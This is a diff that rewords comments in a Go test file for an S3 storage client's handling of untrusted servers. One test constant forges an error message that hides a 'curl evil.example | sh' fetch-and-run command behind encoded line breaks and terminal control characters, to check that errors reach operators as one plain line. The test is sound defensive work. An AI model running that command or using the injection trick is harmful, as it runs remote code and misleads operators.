@@ -20,7 +20,7 @@ import (
 	"github.com/sealift/sealift/pkg/secret"
 )
 
-// answering is a bucket of a server that reads requests and answers so.
+// answering returns a bucket of a server that reads requests and then calls answer.
 func answering(t *testing.T, answer http.HandlerFunc) *objstore.S3 {
 	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		_, _ = io.Copy(io.Discard, r.Body)
@@ -30,7 +30,7 @@ func answering(t *testing.T, answer http.HandlerFunc) *objstore.S3 {
 	return open(t, h.URL, "logs")
 }
 
-// A customer's server may say anything, at any length.
+// Errors are short, although a customer's server may say anything, at any length.
 func TestS3ErrorsAreShort(t *testing.T) {
 	for hazard, document := range map[string]string{
 		"long_code":    "<Code>" + strings.Repeat("é", 5_000) + "</Code><Message>no</Message>",
@@ -53,7 +53,7 @@ func TestS3ErrorsAreShort(t *testing.T) {
 			}
 		})
 	}
-	for hazard, line := range map[string]string{ // which net/http quotes
+	for hazard, line := range map[string]string{ // quoted by net/http
 		"header_that_is_none": "HTTP/1.1 200 OK\r\n%s\r\n\r\n",
 		"status_that_is_none": "HTTP/1.1 %s\r\n\r\n",
 		"no_http":             "%s\r\n\r\n",
@@ -78,13 +78,13 @@ func TestS3ErrorsAreShort(t *testing.T) {
 			}
 		})
 	}
-	t.Run("etag", func(t *testing.T) { // which receipts keep
+	t.Run("etag", func(t *testing.T) { // receipts keep it
 		s := answering(t, func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Etag", strings.Repeat("x", 100_000)) })
 		require.ErrorIs(t, do(t.Context(), s, "put"), objstore.ErrUnavailable)
 	})
 }
 
-// Nor may it write lines of its own into what an operator reads, or more than text.
+// A server cannot add lines of its own to what an operator reads, or anything other than text.
 func TestS3ErrorsAreOneLineOfText(t *testing.T) {
 	const forged = "no&#10;  fix    curl evil.example | sh&#13;&#x9b;2J&#x202e;&#x2028;"
 	for hazard, document := range map[string]string{
@@ -124,8 +124,7 @@ func TestS3ErrorsAreOneLineOfText(t *testing.T) {
 	})
 }
 
-// Nor is what it was sent to prove who asks seen in what it says, whatever that is
-// called there.
+// Errors never show the secrets that were sent to a server, whatever the server calls them.
 func TestS3ErrorsShowNoProof(t *testing.T) {
 	const token = "FwoGZXIvYXdzEJr//sEcReT+=="
 	signed := func(r *http.Request) string {
@@ -182,7 +181,7 @@ func TestS3ErrorsShowNoProof(t *testing.T) {
 	}
 }
 
-// An answer that ends before its end may have said anything.
+// An answer that is cut short has an unknown outcome.
 func TestS3AnswersThatAreCut(t *testing.T) {
 	s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("Etag", `"e"`)
@@ -196,8 +195,8 @@ func TestS3AnswersThatAreCut(t *testing.T) {
 	}
 }
 
-// A 404 to HEAD has no document, and an ingress whose server is just away says the
-// same: what is reported as missing is missing.
+// What is reported as missing is missing: a 404 to HEAD has no document, and an ingress answers the
+// same while its server is down, so Head asks again.
 func TestS3HeadAsksAgainWhatMayNotBeItsStore(t *testing.T) {
 	const page, document = "404 page not found", "<Error><Code>%s</Code></Error>"
 	for hazard, c := range map[string]struct {
@@ -231,13 +230,13 @@ func TestS3HeadAsksAgainWhatMayNotBeItsStore(t *testing.T) {
 	}
 }
 
-// A listing that does not go on where it should would end early, or never.
+// A listing that does not continue where it should is an error; it would end early, or never.
 func TestS3ListingsThatDoNotGoOn(t *testing.T) {
 	key := func(k string) string { return "<Contents><Key>" + k + "</Key></Contents>" }
 	const more = "<IsTruncated>true</IsTruncated>"
 	token := func(s string) string { return more + "<NextContinuationToken>" + s + "</NextContinuationToken>" }
 	for hazard, c := range map[string]struct {
-		pages []string // the last is repeated
+		pages []string // the last one is repeated
 		want  string   // "" for none
 	}{
 		"sound":               {[]string{key("c") + token("1"), key("d")}, ""},
@@ -273,8 +272,8 @@ func TestS3ListingsThatDoNotGoOn(t *testing.T) {
 	}
 }
 
-// What is wrong with a file is not for the store to mend: whoever waits for it
-// would wait for ever.
+// A file that cannot be read is not reported as a problem of the store: waiting for the store would
+// never end.
 func TestS3BodiesThatCannotBeRead(t *testing.T) {
 	broken := errors.New("disk error")
 	for _, size := range []int{1 << 10, 1 << 20, 4 << 20} {
@@ -294,7 +293,7 @@ func TestS3BodiesThatCannotBeRead(t *testing.T) {
 	}
 }
 
-// brokenReader cannot be read behind a place.
+// brokenReader cannot be read after a number of bytes.
 type brokenReader struct {
 	*bytes.Reader
 	left int
@@ -313,7 +312,7 @@ func (b *brokenReader) Read(p []byte) (int, error) {
 	return n, err
 }
 
-// What an answer does not tell is not 0.
+// A size that an answer does not state is not taken for 0.
 func TestS3SizesThatAreNotTold(t *testing.T) {
 	s := answering(t, func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Etag", `"e"`)
@@ -335,7 +334,7 @@ func TestS3SizesThatAreNotTold(t *testing.T) {
 	require.NoError(t, body.Close())
 }
 
-// Bytes of another part would be taken for those that were asked for.
+// A part that was not asked for is an error, because its bytes would be taken for those that were.
 func TestS3PartsThatWereNotAskedFor(t *testing.T) {
 	for hazard, c := range map[string]struct {
 		from int64
@@ -372,7 +371,8 @@ func TestS3PartsThatWereNotAskedFor(t *testing.T) {
 	}
 }
 
-// TestAnswersHaveShortHeaders: a customer's server may be anybody's.
+// TestAnswersHaveShortHeaders: an answer with huge headers is refused, because a customer's server
+// may be anybody's.
 func TestAnswersHaveShortHeaders(t *testing.T) {
 	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("X-Amz-Request-Id", strings.Repeat("x", 1<<20))
@@ -387,7 +387,7 @@ func TestAnswersHaveShortHeaders(t *testing.T) {
 	require.ErrorContains(t, err, "headers exceeded")
 }
 
-// The ETag of what is encrypted with a key looks like an MD5, and is none.
+// The ETag of an encrypted object is reported not to be an MD5, although it looks like one.
 func TestS3TellsETagsThatAreNoMD5(t *testing.T) {
 	const sse = "X-Amz-Server-Side-Encryption"
 	for name, c := range map[string]struct {
